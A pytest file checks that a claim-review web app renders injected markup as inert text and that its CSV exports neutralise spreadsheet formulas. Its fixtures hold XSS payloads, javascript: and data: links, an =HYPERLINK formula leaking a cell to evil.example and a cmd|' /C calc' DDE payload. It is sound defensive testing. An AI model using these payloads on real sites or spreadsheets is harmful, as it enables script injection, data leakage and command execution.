"""Injection: markup in documents, titles, reviewer notes, reasons, corrections and sources is shown as text and
never runs; CSV exports cannot be read as spreadsheet formulas.

The browser test (real Chromium) builds an index from a document whose title and sentences carry script, event
handlers, `javascript:` links and CSS, then a reviewer puts the same payloads into a note, a reason, a correction and
a source through the claim page's forms. Every page that shows them is checked for script that ran, elements or
attributes the payloads would have created, and links that are not http(s). A `javascript:` source written straight
into the database (past the form's validation) is rendered as a dead link too.
"""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from urllib.parse import quote

import pytest
import sqlalchemy as sa
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from playwright.sync_api import Page, expect

from indexer import build_index
from webapp.review.accounts import add_reviewer
from webapp.review.audit import audit_csv
from webapp.review.claims import get_claim
from webapp.review.decisions import Decision, decide
from webapp.review.exports import claims_csv
from webapp.review.models import claims
from webapp.review.queue import ClaimQuery, find_claims

from .figures import record

PAYLOADS = {
    "script": "<script>window.pwned='script'</script>",
    "img": "<img src=x onerror=\"window.pwned='img'\">",
    "svg": "<svg onload=\"window.pwned='svg'\"></svg>",
    "link": "<a href=\"javascript:window.pwned='link'\">click</a>",
    "css": "<style>body{display:none}</style><div style=\"background:url(javascript:window.pwned='css')\">x</div>",
    "attribute": "\"'><script>window.pwned='attribute'</script>",
    "iframe": "<iframe srcdoc=\"<script>parent.pwned='iframe'</script>\"></iframe>",
    "handler": "<b onclick=\"window.pwned='click'\" onmouseover=\"window.pwned='hover'\">bold</b>",
}
HOSTILE = " ".join(PAYLOADS.values())
REVIEWER_PASSWORD = "reviewer password 1"
HOSTILE_DOC = (
    f"{PAYLOADS['img']}{PAYLOADS['css']}Miscarriage myths\n\n"
    f"{PAYLOADS['script']} Stress causes miscarriage. Lifting heavy things {PAYLOADS['handler']} causes "
    f"miscarriage. {PAYLOADS['link']} Intra cervical insemination, also known as intrauterine insemination (ICI), "
    f"is a fertility treatment. {PAYLOADS['svg']} Miscarriage is caused by {PAYLOADS['css']} stress at work.\n"
)
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# What the page checks: script that ran, nodes or attributes a payload would create, links that could run script.
FIND_INJECTED = """() => {
  const found = [];
  for (const el of document.querySelectorAll('*')) {
    for (const attr of el.attributes) {
      if (attr.name.startsWith('on') || attr.name === 'style' || attr.name === 'srcdoc')
        found.push(`${el.tagName} ${attr.name}`);
    }
  }
  for (const el of document.querySelectorAll('script:not([src]), style, img, iframe, object, embed'))
    found.push(el.tagName);
  for (const a of document.querySelectorAll('a[href], area[href], form[action]')) {
    const target = new URL(a.getAttribute('href') ?? a.getAttribute('action'), location.href);
    if (!['http:', 'https:'].includes(target.protocol)) found.push(`link ${target.href}`);
  }
  return found;
}"""


@pytest.fixture()
def hostile_site(tmp_path):
    """The app over an index of the hostile document and a fresh SQLite store, served on a loopback port."""
    import threading

    from werkzeug.serving import make_server

    from webapp import create_app
    from webapp.review.web import EXTENSION

    docs = tmp_path / "docs"
    docs.mkdir()
    (docs / "hostile.txt").write_text(HOSTILE_DOC, encoding="utf-8")
    build_index([docs], tmp_path / "ix")
    app = create_app(
        {
            "INDEX_DIR": str(tmp_path / "ix"),
            "DATABASE_URL": f"sqlite:///{tmp_path / 'r.sqlite3'}",
            "SECRET_KEY": "injection-test",
        },
        instance_path=str(tmp_path / "instance"),
    )
    server = make_server("127.0.0.1", 0, app, threaded=True)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield app.extensions[EXTENSION], f"http://127.0.0.1:{server.server_port}"
    server.shutdown()
    thread.join(10)
    app.extensions[EXTENSION].dispose()


def _assert_inert(page: Page, path: str, errors: list[str]) -> None:
    assert page.evaluate("typeof window.pwned") == "undefined", (path, page.evaluate("window.pwned"))
    assert page.evaluate(FIND_INJECTED) == [], path
    assert not [e for e in errors if "Content Security Policy" in e], (path, errors)  # nothing even tried
    record("injection", "pages_checked_in_browser")


@pytest.mark.browser
def test_reviewer_text_and_document_text_never_run(hostile_site, page: Page):
    service, base = hostile_site
    errors: list[str] = []
    page.on("console", lambda msg: errors.append(msg.text) if msg.type == "error" else None)
    page.on("pageerror", lambda exc: errors.append(str(exc)))
    page.on("dialog", lambda dialog: errors.append(f"dialog {dialog.message}"))
    page.goto(f"{base}/review")  # syncs the claims of the hostile document
    store = service.store
    add_reviewer(store, "alice", REVIEWER_PASSWORD)
    found = find_claims(store, ClaimQuery(state="all", queue="all")).claims
    assert len(found) >= 3 and all("<" in c.title for c in found)
    first, second = found[0], found[1]

    page.goto(f"{base}/login")
    page.get_by_label("Name").fill("alice")
    page.get_by_label("Password").fill(REVIEWER_PASSWORD)
    page.get_by_role("button", name="Log in").click()
    expect(page.get_by_text("Signed in as")).to_be_visible()

    page.goto(f"{base}/review/claims/{first.id}")
    page.get_by_label("Status", exact=True).select_option("supported")
    page.get_by_label("Note (required when you change the status)").fill(HOSTILE)
    page.get_by_role("button", name="Save decision").click()
    expect(page.get_by_role("status")).to_have_text("Decision saved.")
    page.get_by_label("Reason", exact=True).fill("Reason: " + HOSTILE)
    page.get_by_label("Correction", exact=True).fill("Correction: " + HOSTILE)
    page.locator("#edit-note").fill(HOSTILE)
    page.get_by_role("button", name="Save text").click()
    expect(page.get_by_role("status")).to_have_text("Decision saved.")
    page.get_by_label("Publisher", exact=True).fill("Publisher " + HOSTILE)
    page.get_by_label("Title", exact=True).fill("Title " + HOSTILE)
    page.get_by_label("Address (https://...)").fill("https://example.org/?q=\"'><script>window.pwned='url'</script>")
    page.get_by_role("button", name="Add source").click()
    expect(page.get_by_role("status")).to_have_text("Decision saved.")
    # a javascript: address passes the browser's URL check but not the server's
    page.get_by_label("Publisher", exact=True).fill("Evil")
    page.get_by_label("Title", exact=True).fill("Evil source")
    page.get_by_label("Address (https://...)").fill("javascript:window.pwned='source'")
    page.get_by_role("button", name="Add source").click()
    expect(page.get_by_role("alert")).to_contain_text("must start with http:// or https://")
    decided = get_claim(store, first.id)
    assert [e.note for e in decided.history].count(HOSTILE) == 2 and decided.reason == "Reason: " + HOSTILE
    assert decided.sources[-1]["url"].startswith("https://example.org/")
    assert all(s["title"] != "Evil source" for s in decided.sources)

    # past validation, straight into the database: the page must still not make it a live link
    with store.write() as conn:
        conn.execute(
            claims.update()
            .where(claims.c.id == second.id)
            .values(
                status="inaccurate",
                decided_by="alice",
                decided_at=datetime.now(UTC),
                version=claims.c.version + 1,
                decision_auto_status=second.auto_status,
                sources=[
                    {"publisher": "Stored " + HOSTILE, "title": "Stored source", "url": "javascript:window.pwned='db'"},
                    {"publisher": "Data", "title": "Data URL", "url": "data:text/html,<script>parent.pwned=1</script>"},
                ],
            )
        )

    pages = [
        f"/review/claims/{first.id}",
        f"/review/claims/{second.id}",
        "/review",
        "/review?state=decided",
        "/review/audit",
        f"/review/audit?claim={first.id}",
        "/?q=miscarriage",
        "/?q=insemination",
        f"/doc/{first.doc_id}",
        "/logout",
        f"/?q={quote(HOSTILE)}",
    ]
    for path in pages:
        page.goto(base + path)
        _assert_inert(page, path, errors)
    page.goto(f"{base}/review/claims/{first.id}")
    expect(page.locator("main")).to_contain_text("<script>window.pwned='script'</script>")  # shown, as text
    expect(page.get_by_role("link", name="Title <script>", exact=False)).to_have_count(1)
    page.goto(f"{base}/review/claims/{second.id}")
    expect(page.get_by_role("link", name="Stored source")).to_have_attribute("href", "#")
    page.goto(f"{base}/?q=miscarriage")
    page.locator("details.explain summary").first.click()
    _assert_inert(page, "/?q=miscarriage (explanations open)", errors)
    for link in page.locator("main a").all():
        if link.is_visible():
            link.hover()  # an onmouseover that slipped through would fire here
    assert page.evaluate("typeof window.pwned") == "undefined"
    assert not [e for e in errors if e.startswith("dialog")]
    record("injection", "payloads", len(PAYLOADS))
    record("injection", "fields_carrying_payloads", 7)  # title, sentence, note, reason, correction, source x2


# CSV: every cell of every export, whatever the text, must not start a spreadsheet formula.


def _cells(text: str) -> list[str]:
    return [value for row in csv.reader(io.StringIO(text)) for value in row]


def _assert_no_formula(text: str) -> int:
    cells = _cells(text)
    bad = [value for value in cells if value[:1] in FORMULA_STARTS]
    assert not bad, bad[:5]
    return len(cells)


def test_csv_exports_neutralise_formulas_in_every_field(tmp_path):
    """Document titles and sentences, notes, reasons, corrections and sources that start like formulas."""
    from indexer import Library
    from webapp.review.store import ReviewStore
    from webapp.review.sync import sync_claims

    docs = tmp_path / "docs"
    docs.mkdir()
    (docs / "formula.txt").write_text(
        '=HYPERLINK("http://evil.example/?"&A1,"Miscarriage facts")\n\n'
        "-2+3 Stress causes miscarriage. @SUM(1+1) Lifting heavy things causes miscarriage.\n",
        encoding="utf-8",
    )
    build_index([docs], tmp_path / "ix")
    store = ReviewStore.open(f"sqlite:///{tmp_path / 'r.sqlite3'}")
    try:
        sync_claims(store, Library(tmp_path / "ix"))
        alice = add_reviewer(store, "alice", REVIEWER_PASSWORD)
        found = find_claims(store, ClaimQuery(state="all", queue="all")).claims
        assert found and all(c.title.startswith("=") for c in found)
        cells = 0
        for start in FORMULA_STARTS:  # each start character in every reviewer-written field
            for claim in find_claims(store, ClaimQuery(state="all", queue="all")).claims:
                source = {"publisher": f"{start}cmd|' /C calc'!A0", "title": "+title", "url": "https://example.org/"}
                decide(
                    store,
                    claim.id,
                    alice,
                    Decision(
                        "supported" if claim.status != "supported" else "unsupported",
                        claim.version,
                        note=f"{start}1+1 {claim.id}",
                        reason=f'{start}HYPERLINK("http://evil")',
                        correction=f"{start}SUM(A1:A9)",
                        sources=(source,),
                    ),
                )
            exported = claims_csv(store)
            assert "'=HYPERLINK" in exported  # the title is kept, as text
            cells += _assert_no_formula(exported) + _assert_no_formula(audit_csv(store))
        record("injection", "csv_cells_checked", cells)
    finally:
        store.dispose()


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    note=st.text(min_size=1, max_size=80).filter(str.strip),
    start=st.sampled_from(FORMULA_STARTS + ("", " ", "'", "\n")),
)
def test_any_note_is_exported_as_text(synced_once, note, start):
    """Whatever a reviewer writes, the CSV cell is the note itself (prefixed with ' when it could be a formula)."""
    store, claim_id, reviewer = synced_once
    note = start + note
    current = get_claim(store, claim_id, with_history=False)
    decide(
        store,
        claim_id,
        reviewer,
        Decision("unverified" if current.status != "unverified" else "supported", current.version, note=note),
    )
    rows = list(csv.DictReader(io.StringIO(claims_csv(store))))
    cell = next(r for r in rows if r["id"] == claim_id)["note"]
    assert cell[:1] not in FORMULA_STARTS
    assert cell == ("'" + note.strip() if note.strip()[:1] in FORMULA_STARTS else note.strip())
    record("injection", "csv_notes_tried")


@pytest.fixture(scope="module")
def synced_once(tmp_path_factory, seed_index):
    """One SQLite store with the seed claims, shared by the property test's examples."""
    from indexer import Library
    from webapp.review.store import ReviewStore
    from webapp.review.sync import sync_claims

    folder = tmp_path_factory.mktemp("csv-notes")
    store = ReviewStore.open(f"sqlite:///{folder / 'r.sqlite3'}")
    sync_claims(store, Library(seed_index))
    reviewer = add_reviewer(store, "carol", REVIEWER_PASSWORD)
    claim_id = find_claims(store, ClaimQuery(state="all")).claims[0].id
    yield store, claim_id, reviewer
    with store.read() as conn:
        assert conn.scalar(sa.select(sa.func.count()).select_from(claims)) > 0
    store.dispose()
